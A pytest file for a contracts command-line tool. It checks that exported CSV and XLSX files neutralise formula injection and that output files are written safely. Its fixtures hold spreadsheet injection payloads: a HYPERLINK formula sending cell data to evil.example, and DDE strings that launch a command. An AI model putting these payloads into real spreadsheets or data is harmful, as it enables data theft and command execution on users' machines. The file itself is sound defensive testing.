"""Issue #18, points 1 and 2: no formula from stored text in any export, and output files written safely.

Reproduced first: a buyer, a note or a payment reference that starts with = became a live formula in every
workbook and CSV; `contracts --db s.db export s.db` replaced the store with its JSON; -o replaced any file
without a word; a failed write left a 0-byte file.
"""

import csv
import io
import json
import os
import resource
import signal
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from tests.conftest import ROOT

HOSTILE = {
    "buyer": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "notes": "=cmd|' /C calc'!A0",
    "vendor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "+1+1",
}
REFERENCES = ["-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "=1+1"]


def _hostile_store(cli, tmp_path):
    toml = tmp_path / "hostile.toml"
    fields = "\n".join(f"{key} = {json.dumps(value)}" for key, value in HOSTILE.items())
    payments = "\n".join(f'[[payment]]\ncontract = "EVIL"\npaid_on = 2023-0{n + 4}-01\namount = "100.00"\nreference = {json.dumps(ref)}\n'
                         for n, ref in enumerate(REFERENCES))
    toml.write_text(f'[[contract]]\ncode = "EVIL"\nname = "=2+5"\nbilling_start = 2023-01-01\nbilling_months = 12\n'
                    f'annual_fee = "1200.00"\n{fields}\n\n{payments}', encoding="utf-8")
    cli("import", str(toml))


def _formulas(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def _texts(path: Path) -> set[str]:
    book = openpyxl.load_workbook(path)
    return {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "s"}


def test_stored_text_never_becomes_a_formula_in_a_workbook(cli, tmp_path):
    _hostile_store(cli, tmp_path)
    for args in (["list"], ["payments", "EVIL"], ["show", "EVIL"], ["arrears", "--as-of", "2024-03-31"]):
        path = tmp_path / f"{args[0]}.xlsx"
        cli(*args, "-f", "xlsx", "-o", str(path))
        # The only formulas are the program's own: totals over the money columns.
        assert all(value.startswith("=SUM(") for value in _formulas(path)), (args, _formulas(path))
    texts = _texts(tmp_path / "list.xlsx")
    assert {HOSTILE["buyer"], HOSTILE["notes"], HOSTILE["vendor"], HOSTILE["source"], "=2+5"} <= texts
    assert set(REFERENCES) <= _texts(tmp_path / "payments.xlsx")
    book = openpyxl.load_workbook(tmp_path / "list.xlsx")
    marked = [cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value == HOSTILE["buyer"]]
    assert marked and all(cell.quotePrefix for cell in marked)  # Excel keeps it text even when someone edits it


def test_csv_neutralises_would_be_formulas_and_keeps_numbers(cli, tmp_path):
    _hostile_store(cli, tmp_path)
    rows = list(csv.DictReader(io.StringIO(cli("payments", "EVIL", "-f", "csv").stdout)))
    assert [row["reference"] for row in rows] == ["'" + ref for ref in REFERENCES]  # OWASP: a leading apostrophe
    contract = next(csv.DictReader(io.StringIO(cli("list", "-f", "csv").stdout)))
    assert contract["buyer"] == "'" + HOSTILE["buyer"] and contract["notes"] == "'" + HOSTILE["notes"]
    assert contract["name"] == "'=2+5"
    # amounts are numbers, not text: a negative one stays a number
    amended = cli("amend", "EVIL", "--from", "2023-07-01", "--annual-fee", "600.00", "--ref", "=bad", "-f", "csv").stdout
    changes = [row["change"] for row in csv.DictReader(io.StringIO(amended))]
    assert changes and all(change.startswith("-") for change in changes)
    # JSON stays exact for scripts
    assert [p["reference"] for p in cli.json("payments", "EVIL")] == REFERENCES


def test_a_csv_written_by_us_imports_back_as_stored(cli, tmp_path):
    """The apostrophe is ours: a CSV of payments read back gives the reference as it was stored."""
    _hostile_store(cli, tmp_path)
    out = cli("payments", "EVIL", "-f", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    path = tmp_path / "payments.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["contract", "paid_on", "amount", "reference"])
        for row in rows:
            writer.writerow(["EVIL", "2023-09-01", "1.00", row["reference"]])
    cli("import", str(path))
    references = [p["reference"] for p in cli.json("payments", "EVIL")]
    assert references.count("=1+1") == 2 and references.count("@SUM(1,1)") == 2


def test_the_store_is_never_a_target(tmp_path, monkeypatch):
    """`contracts --db s.db export s.db` replaced the store with its JSON; now it is refused and the store works."""
    from typer.testing import CliRunner

    from cli.main import app

    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    assert runner.invoke(app, ["--db", "s.db", "import", str(ROOT / "examples" / "emeishan.toml")]).exit_code == 0
    before = (tmp_path / "s.db").read_bytes()
    for args in (["export", "s.db"], ["export", "s.db", "--force"], ["export", "--format", "ocds", "./s.db", "--force"],
                 ["report", "html", "-o", "s.db", "--force"], ["calendar", "-o", "s.db", "--force"],
                 ["list", "-f", "xlsx", "-o", str(tmp_path / "s.db"), "--force"]):
        result = runner.invoke(app, ["--db", "s.db", *args])
        assert result.exit_code == 1, args
        assert "is the store's own database file" in result.stderr, (args, result.stderr)
    # the command's own --db is protected as well
    result = runner.invoke(app, ["export", "s.db", "--db", "s.db", "--force"])
    assert result.exit_code == 1 and "is the store's own database file" in result.stderr
    assert (tmp_path / "s.db").read_bytes() == before
    assert runner.invoke(app, ["--db", "s.db", "list"]).exit_code == 0


@pytest.mark.parametrize("args, name", [
    (["export"], "all.json"),
    (["export", "--format", "ocds"], "ocds.json"),
    (["report", "html", "--as-of", "2024-03-31", "-o"], "report.html"),
    (["calendar", "--as-of", "2024-03-31", "-o"], "due.ics"),
    (["arrears", "--as-of", "2024-03-31", "-f", "xlsx", "-o"], "arrears.xlsx"),
    (["template", "-o"], "template.xlsx"),
])
def test_an_existing_file_is_replaced_only_with_force(loaded, tmp_path, args, name):
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / name
    target.write_text("keep me", encoding="utf-8")
    result = loaded(*args, str(target), ok=False)
    assert result.stderr.strip() == f"error: {'file' if args[0] == 'export' else 'output'} '{target}': exists; give --force to replace it"
    assert target.read_text(encoding="utf-8") == "keep me"
    loaded(*args, str(target), "--force")
    assert target.read_bytes() != b"keep me" and target.stat().st_size > 100
    loaded("--force", *args, str(target))  # before the command as well
    assert sorted(p.name for p in folder.iterdir()) == [name]  # no temporary file left beside it


def test_every_written_file_says_so(loaded, tmp_path):
    for args in (["schedule", "TW2"], ["arrears", "--as-of", "2024-03-31"], ["report", "fy", "2023"]):
        path = tmp_path / f"{args[0]}.xlsx"
        result = loaded(*args, "-f", "xlsx", "-o", str(path))
        assert result.stderr.startswith(f"wrote {path}: "), result.stderr
    assert "已写入" in loaded("--lang", "zh", "schedule", "TW2", "-f", "xlsx", "-o", str(tmp_path / "zh.xlsx")).stderr


def test_a_refused_command_writes_no_workbook(loaded, tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    loaded("schedule", "NOPE", "-f", "xlsx", "-o", str(folder / "x.xlsx"), ok=False)
    assert list(folder.iterdir()) == []


def _limited(size: int):
    def limit():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG) instead of killing us
        resource.setrlimit(resource.RLIMIT_FSIZE, (size, size))
    return limit


def test_a_full_disk_leaves_nothing_behind(db_url, tmp_path):
    """A write that fails half-way (here: the file-size limit, as a full disk would) leaves no file and no
    temporary file, and a file it was to replace keeps its content."""
    if not db_url.startswith("sqlite"):
        pytest.skip("the limit would stop the database server's client library too; SQLite shows it")
    env = {**os.environ, "CONTRACTS_LANG": "en"}
    run = [sys.executable, "-c", "from cli.main import run; run()", "--db", db_url]
    subprocess.run(run + ["import", str(ROOT / "examples" / "emeishan.toml")], check=True, capture_output=True, env=env)
    folder = tmp_path / "out"
    folder.mkdir()
    for args, target in ((["export"], folder / "all.json"), (["report", "html", "--as-of", "2024-03-31", "-o"], folder / "r.html"),
                         (["arrears", "--as-of", "2024-03-31", "-f", "xlsx", "-o"], folder / "a.xlsx")):
        done = subprocess.run(run + args + [str(target)], capture_output=True, text=True, env=env, cwd=ROOT,
                              preexec_fn=_limited(2000), timeout=120)
        assert done.returncode == 1, done.stderr
        assert done.stderr.strip().startswith("error: ") and "cannot be written (File too large)" in done.stderr, done.stderr
        assert "Traceback" not in done.stderr
        assert list(folder.iterdir()) == []
    kept = folder / "all.json"
    kept.write_text("the previous export", encoding="utf-8")
    done = subprocess.run(run + ["export", str(kept), "--force"], capture_output=True, text=True, env=env, cwd=ROOT,
                          preexec_fn=_limited(2000), timeout=120)
    assert done.returncode == 1
    assert kept.read_text(encoding="utf-8") == "the previous export" and list(folder.iterdir()) == [kept]


def _at_a_terminal(args, answer: bytes) -> tuple[int, str]:
    """The real program with its stdin and stderr on a pseudo-terminal, answering its question."""
    import pty
    import select

    master, slave = pty.openpty()
    process = subprocess.Popen([sys.executable, "-c", "from cli.main import run; run()", *args], stdin=slave,
                               stdout=subprocess.DEVNULL, stderr=slave, cwd=ROOT, env={**os.environ, "CONTRACTS_LANG": "en"})
    os.close(slave)
    seen, answered = b"", False
    while True:
        ready, _, _ = select.select([master], [], [], 60)
        if not ready:
            break
        try:
            chunk = os.read(master, 4096)
        except OSError:
            break
        if not chunk:
            break
        seen += chunk
        if not answered and b"Replace it?" in seen:
            os.write(master, answer)
            answered = True
    os.close(master)
    return process.wait(timeout=60), seen.decode("utf-8", "replace")


@pytest.mark.slow
def test_at_a_terminal_the_person_is_asked(loaded, tmp_path):
    target = tmp_path / "out" / "all.json"
    target.parent.mkdir()
    target.write_text("keep me", encoding="utf-8")
    code, shown = _at_a_terminal(["--db", loaded.url, "export", str(target)], b"n\n")
    assert code == 1 and "all.json exists. Replace it?" in shown and target.read_text(encoding="utf-8") == "keep me"
    code, shown = _at_a_terminal(["--db", loaded.url, "export", str(target)], b"y\n")
    assert code == 0 and json.loads(target.read_text(encoding="utf-8"))["contract"]
